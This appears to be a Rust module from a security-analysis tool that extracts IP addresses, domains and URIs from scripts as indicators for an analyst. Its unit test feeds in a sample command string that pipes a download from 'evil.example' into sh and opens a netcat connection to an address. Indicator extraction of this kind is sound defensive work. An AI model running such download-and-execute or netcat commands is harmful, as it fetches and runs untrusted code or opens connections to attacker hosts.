//! Addresses and names that stand in a script, for the analyst to pivot on.

use std::{collections::BTreeSet, net::Ipv4Addr};

use proto::scc::Indicator;
use verdict::url::{Url, is_name};

/// Of each kind, at most this many are listed.
const LISTED_MAX: usize = 32;
/// A longer URI is cut.
const URI_BYTES_MAX: usize = 512;

/// Collects URIs with a host, their domains, and IPv4 addresses that are not this machine.
pub(super) fn of(script: &[u8]) -> Option<Indicator> {
    let text = String::from_utf8_lossy(script);
    let mut uris = BTreeSet::new();
    let mut domains = BTreeSet::new();
    let mut addresses = BTreeSet::new();
    for word in text.split(|c: char| c.is_whitespace() || "'\"`<>|;()$\\{}[],".contains(c)) {
        if let Some(url) = Url::of(word.as_bytes())
            && url.scheme.iter().all(u8::is_ascii_alphanumeric)
            && let Ok(host) = std::str::from_utf8(url.host())
            && !host.is_empty()
        {
            if is_name(host.as_bytes()) {
                domains.insert(host.to_ascii_lowercase());
            }
            uris.insert(word.chars().take(URI_BYTES_MAX).collect::<String>());
        }
        for part in word.split(|c: char| !(c.is_ascii_digit() || c == '.')) {
            if let Ok(address) = part.parse::<Ipv4Addr>()
                && !address.is_loopback()
                && !address.is_unspecified()
            {
                addresses.insert(address.to_string());
            }
        }
    }
    let listed = |set: BTreeSet<String>| set.into_iter().take(LISTED_MAX).collect::<Vec<_>>();
    let indicator =
        Indicator { ip_addresses: listed(addresses), domains: listed(domains), uris: listed(uris) };
    let empty =
        indicator.ip_addresses.is_empty() && indicator.domains.is_empty() && indicator.uris.is_empty();
    (!empty).then_some(indicator)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_domains_and_uris_are_listed() {
        let script = b"curl -s http://evil.example/a.sh|sh; nc 192.0.2.7 99; ping 127.0.0.1; v=1.2.3.4.5";
        let found = of(script).unwrap();
        assert_eq!(found.ip_addresses, ["192.0.2.7"]);
        assert_eq!(found.domains, ["evil.example"]);
        assert_eq!(found.uris, ["http://evil.example/a.sh"]);
        assert_eq!(of(b"echo hello"), None);
    }
}
